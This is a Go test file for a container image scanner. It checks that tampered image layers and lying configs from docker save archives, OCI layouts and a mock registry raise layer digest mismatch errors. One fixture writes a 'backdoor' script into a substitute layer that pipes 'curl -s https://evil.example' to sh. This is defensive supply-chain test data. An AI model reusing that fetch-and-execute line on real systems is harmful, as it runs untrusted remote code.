package image

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
)

// swapLayer is what a tampered source serves instead of layer 1 of
// craftedImage: a valid gzip tar with other content.
func swapLayer(t *testing.T) (blob []byte, digest, diffID v1.Hash) {
	t.Helper()
	l := tarLayer(t, []entry{{name: "usr/bin/backdoor", body: "#!/bin/sh\ncurl -s https://evil.example | sh\n", mode: 0o755}})
	rc, err := l.Compressed()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	blob, err = io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	digest, _ = l.Digest()
	diffID, _ = l.DiffID()
	return blob, digest, diffID
}

// rewriteTar copies the tar src to dst with the members named in replace
// given new content.
func rewriteTar(t *testing.T, src, dst string, replace map[string][]byte) {
	t.Helper()
	in, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	out, err := os.Create(dst)
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	tr, tw := tar.NewReader(in), tar.NewWriter(out)
	n := 0
	for {
		hdr, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if b, ok := replace[hdr.Name]; ok {
			body, hdr.Size = b, int64(len(b))
			n++
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(body); err != nil {
			t.Fatal(err)
		}
	}
	if n != len(replace) {
		t.Fatalf("replaced %d of %d members", n, len(replace))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
}

// wantLayerMismatch checks that err is the mismatch of layer 1 naming the
// image and both digests.
func wantLayerMismatch(t *testing.T, err error, image string, blob bool, expected, actual v1.Hash) {
	t.Helper()
	t.Logf("%v", err)
	var le *LayerDigestError
	if !errors.Is(err, ErrLayerDigest) || !errors.As(err, &le) {
		t.Fatalf("error = %v, want a layer digest mismatch", err)
	}
	if le.Layer != 1 || le.Blob != blob || le.Expected != expected || le.Actual != actual {
		t.Errorf("mismatch = %+v, want layer 1 blob=%v expected %s actual %s", le, blob, expected, actual)
	}
	for _, s := range []string{image, "layer 1", expected.String(), actual.String()} {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("error %q does not name %s", err, s)
		}
	}
}

func scanErr(src Source) error {
	_, err := (&Scanner{}).ScanSource(context.Background(), src)
	return err
}

func TestDockerSaveLayerMustMatchDiffID(t *testing.T) {
	dir := t.TempDir()
	img := craftedImage(t)
	cf, _ := img.ConfigFile()
	tag, _ := name.NewTag("registry.example.com/app:1.0")
	good := filepath.Join(dir, "good.tar")
	if err := tarball.WriteToFile(good, tag, img); err != nil {
		t.Fatal(err)
	}
	if err := scanErr(Source{Tarball: good}); err != nil {
		t.Fatalf("untampered docker save: %v", err)
	}

	m, err := tarball.LoadManifest(func() (io.ReadCloser, error) { return os.Open(good) })
	if err != nil {
		t.Fatal(err)
	}
	blob, _, diffID := swapLayer(t)
	bad := filepath.Join(dir, "bad.tar")
	rewriteTar(t, good, bad, map[string][]byte{m[0].Layers[1]: blob}) // manifest.json and config kept
	wantLayerMismatch(t, scanErr(Source{Tarball: bad}), "registry.example.com/app:1.0", false, cf.RootFS.DiffIDs[1], diffID)
}

func TestOCILayoutBlobMustMatchDigest(t *testing.T) {
	img := craftedImage(t)
	ls, _ := img.Layers()
	want, _ := ls[1].Digest()
	dir := writeLayout(t, img)
	if err := scanErr(Source{Layout: dir}); err != nil {
		t.Fatalf("untampered layout: %v", err)
	}
	goodArchive := filepath.Join(t.TempDir(), "good-oci.tar")
	tarDir(t, dir, goodArchive)
	if err := scanErr(Source{Tarball: goodArchive}); err != nil {
		t.Fatalf("untampered OCI archive: %v", err)
	}

	blob, got, _ := swapLayer(t)
	if err := os.WriteFile(filepath.Join(dir, "blobs", want.Algorithm, want.Hex), blob, 0o644); err != nil {
		t.Fatal(err)
	}
	wantLayerMismatch(t, scanErr(Source{Layout: dir}), filepath.ToSlash(dir), true, want, got)

	archive := filepath.Join(t.TempDir(), "oci.tar")
	tarDir(t, dir, archive)
	wantLayerMismatch(t, scanErr(Source{Tarball: archive}), filepath.ToSlash(archive), true, want, got)
}

// lyingConfig is craftedImage with a config whose diff_id for layer 1 is
// another layer's: every blob matches its manifest digest.
func lyingConfig(t *testing.T) (v1.Image, v1.Hash, v1.Hash) {
	t.Helper()
	img := craftedImage(t)
	cf, _ := img.ConfigFile()
	cf = cf.DeepCopy()
	actual := cf.RootFS.DiffIDs[1]
	_, _, lie := swapLayer(t)
	cf.RootFS.DiffIDs[1] = lie
	img, err := mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	return img, lie, actual
}

func TestLayoutLayerMustMatchDiffID(t *testing.T) {
	img, lie, actual := lyingConfig(t)
	dir := writeLayout(t, img)
	wantLayerMismatch(t, scanErr(Source{Layout: dir}), filepath.ToSlash(dir), false, lie, actual)
}

func TestRegistryLayerMustMatch(t *testing.T) {
	img := craftedImage(t)
	ls, _ := img.Layers()
	layerDigest, _ := ls[1].Digest()
	// The registry serves layer 1's blob with one byte changed (a registry
	// or mirror that corrupts or substitutes it; the size must stay, or
	// the client refuses the Content-Length before reading).
	rc, err := ls[1].Compressed()
	if err != nil {
		t.Fatal(err)
	}
	blob, err := io.ReadAll(rc)
	rc.Close()
	if err != nil {
		t.Fatal(err)
	}
	blob[len(blob)/2] ^= 0xff
	got, _, _ := v1.SHA256(bytes.NewReader(blob))
	reg := registry.New(registry.Logger(log.New(io.Discard, "", 0)))
	tamper := false
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if tamper && r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/blobs/"+layerDigest.String()) {
			_, _ = w.Write(blob)
			return
		}
		reg.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	ref := host + "/team/app:1.0"
	push(t, ref, img)
	if err := scanErr(Source{Reference: ref}); err != nil {
		t.Fatalf("untampered registry image: %v", err)
	}
	tamper = true
	wantLayerMismatch(t, scanErr(Source{Reference: ref}), ref, true, layerDigest, got)
	tamper = false

	lying, lie, actual := lyingConfig(t)
	ref2 := host + "/team/lying:1.0"
	push(t, ref2, lying)
	wantLayerMismatch(t, scanErr(Source{Reference: ref2}), ref2, false, lie, actual)
}

func TestDiffIDCountMustMatchLayers(t *testing.T) {
	img := craftedImage(t)
	cf, _ := img.ConfigFile()
	cf = cf.DeepCopy()
	cf.RootFS.DiffIDs = cf.RootFS.DiffIDs[:1]
	img, err := mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	err = scanErr(Source{Layout: writeLayout(t, img)})
	if err == nil || !strings.Contains(err.Error(), "1 rootfs.diff_ids for 2 layers") {
		t.Fatalf("error = %v", err)
	}
}
